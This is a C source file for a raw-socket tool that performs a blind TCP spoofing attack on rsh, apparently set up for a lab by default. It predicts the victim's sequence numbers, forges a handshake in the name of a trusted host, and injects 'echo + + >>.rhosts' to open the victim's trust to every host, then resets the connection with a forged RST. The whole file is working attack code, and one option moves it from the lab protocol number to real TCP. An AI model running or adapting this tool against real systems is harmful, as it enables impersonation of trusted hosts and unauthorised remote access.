// SPDX-License-Identifier: GPL-2.0
/*
 * forge [OPTION...]: handshakes in another's name, completed by prediction
 *
 * Again and again: connect to the victim in our own name to sample its initial
 * sequence number, forge a SYN in the name of a host that it trusts, forge ACKs
 * with text for numbers that the victim's clock can have reached by then, take
 * the half-open entry away by a forged RST. Nothing but the answer to our own
 * SYN is read. One line of JSON tells what was sent.
 */
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <netinet/if_ether.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define TICK_NS 64		/* RFC 6528: the clock in the number */
#define TEXT "echo + + >>.rhosts"
#define WINDOW 64240

struct frame {
	struct ethhdr eth;
	struct iphdr ip;
	struct tcphdr tcp;
	char text[sizeof(TEXT)];
} __attribute__((packed));

static const char *device = "eth0", *trusted = "10.53.0.1", *victim = "10.53.0.2";
static const char *own = "10.53.0.9";
static uint32_t tries = 1000, per_syn = 100;
static uint16_t port = 514;
static uint8_t protocol = 253, mac[6] = { 2, 0, 0, 0, 0x53, 2 };
static int fd;

static void die(const char *fmt, ...)
{
	va_list ap;

	va_start(ap, fmt);
	vfprintf(stderr, fmt, ap);
	va_end(ap);
	fprintf(stderr, "\n");
	exit(1);
}

static uint64_t now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec * 1000000000ULL + t.tv_nsec;
}

static uint16_t checksum(const void *data, size_t n, uint32_t sum)
{
	const uint8_t *p = data;
	size_t i;

	for (i = 0; i + 1 < n; i += 2)
		sum += p[i] << 8 | p[i + 1];
	if (n & 1)
		sum += p[n - 1] << 8;
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return htons(~sum);
}

static void transmit(const char *from, uint16_t sport, uint8_t flags, uint32_t seq,
		     uint32_t ack, const char *text)
{
	uint32_t s = ntohl(inet_addr(from)), d = ntohl(inet_addr(victim));
	size_t size = strlen(text), len = sizeof(struct tcphdr) + size;
	struct frame f = { .eth.h_proto = htons(ETH_P_IP) };

	memcpy(f.eth.h_dest, mac, 6);
	memcpy(f.eth.h_source, "\x02\0\0\0\x53\x09", 6);
	f.ip.version = 4;
	f.ip.ihl = 5;
	f.ip.ttl = 64;
	f.ip.protocol = protocol;
	f.ip.saddr = htonl(s);
	f.ip.daddr = htonl(d);
	f.ip.tot_len = htons(sizeof(f.ip) + len);
	f.ip.check = checksum(&f.ip, sizeof(f.ip), 0);
	f.tcp.source = htons(sport);
	f.tcp.dest = htons(port);
	f.tcp.seq = htonl(seq);
	f.tcp.ack_seq = htonl(ack);
	f.tcp.doff = 5;
	f.tcp.th_flags = flags;
	f.tcp.window = htons(WINDOW);
	memcpy(f.text, text, size);
	f.tcp.check = checksum(&f.tcp, len, (s >> 16) + (s & 0xffff) + (d >> 16) +
			       (d & 0xffff) + protocol + len);
	if (send(fd, &f, offsetof(struct frame, tcp) + len, 0) < 0)
		die("send: %m");
}

/* The victim's number for a connection of our own, which is then given up. */
static uint32_t sample(uint16_t sport, uint32_t iss)
{
	struct pollfd p = { fd, POLLIN, 0 };
	struct frame f;

	transmit(own, sport, TH_SYN, iss, 0, "");
	while (poll(&p, 1, 5000) > 0) {
		memset(&f, 0, sizeof(f));
		if (recv(fd, &f, sizeof(f), 0) < 0)
			die("recv: %m");
		if (f.ip.protocol != protocol || f.ip.daddr != inet_addr(own) ||
		    f.tcp.dest != htons(sport) || f.tcp.th_flags != (TH_SYN | TH_ACK))
			continue;
		transmit(own, sport, TH_RST, iss + 1, 0, "");
		return ntohl(f.tcp.seq);
	}
	die("the victim does not answer");
	return 0;
}

/* Somewhere between the number sampled and what its clock can have added since */
static uint32_t predict(uint32_t sampled, uint64_t at)
{
	uint32_t ticks = (now() - at) / TICK_NS + 1;

	return sampled + (uint32_t)random() % ticks;
}

static void attack(uint32_t round, uint32_t n)
{
	uint16_t sport = 512 + round % 512;	/* a port of the superuser, as rsh wants it */
	uint32_t iss = 1000 + round * 100000, sampled, i;
	uint64_t at = now();

	sampled = sample(1024 + round % 60000, iss);
	transmit(trusted, sport, TH_SYN, iss, 0, "");
	for (i = 0; i < n; i++)
		transmit(trusted, sport, TH_ACK | TH_PUSH, iss + 1, predict(sampled, at) + 1, TEXT);
	transmit(trusted, sport, TH_RST, iss + 1, 0, "");
}

int main(int argc, char **argv)
{
	struct sockaddr_ll ll = { .sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP) };
	uint32_t sent, n, round = 0;
	int c;

	while ((c = getopt(argc, argv, "d:p:P:n:k:t:v:o:")) != -1) {
		switch (c) {
		case 'd': device = optarg; break;
		case 'p': protocol = atoi(optarg); break;
		case 'P': port = atoi(optarg); break;
		case 'n': tries = atoi(optarg); break;
		case 'k': per_syn = atoi(optarg); break;
		case 't': trusted = optarg; break;
		case 'v': victim = optarg; break;
		case 'o': own = optarg; break;
		default: die("usage: forge [-d DEVICE] [-p PROTOCOL] [-P PORT] [-n TRIES] "
			     "[-k TRIES-PER-SYN] [-t TRUSTED] [-v VICTIM] [-o OWN-ADDRESS]");
		}
	}
	fd = socket(AF_PACKET, SOCK_RAW, 0);
	ll.sll_ifindex = if_nametoindex(device);
	if (fd < 0 || bind(fd, (struct sockaddr *)&ll, sizeof(ll)) || !per_syn)
		die("%s: %m", device);
	for (sent = 0; sent < tries; sent += n, round++) {
		n = tries - sent < per_syn ? tries - sent : per_syn;
		attack(round, n);
	}
	printf("{\"tries\": %u, \"rounds\": %u}\n", sent, round);
	return 0;
}
